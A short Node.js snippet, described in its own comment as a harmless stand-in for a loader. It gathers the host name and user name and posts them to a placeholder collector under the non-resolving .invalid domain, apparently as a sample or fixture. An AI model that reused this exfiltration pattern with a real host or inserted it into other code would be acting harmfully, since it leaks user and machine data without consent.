// A harmless stand-in for a loader: it would send the host name to a
// collector under .invalid (which never resolves).
const os = require('os');
const https = require('https');
const data = JSON.stringify({ host: os.hostname(), user: os.userInfo().username });
const req = https.request({ hostname: 'collector.example.invalid', path: '/c', method: 'POST' });
req.write(data);
req.end();
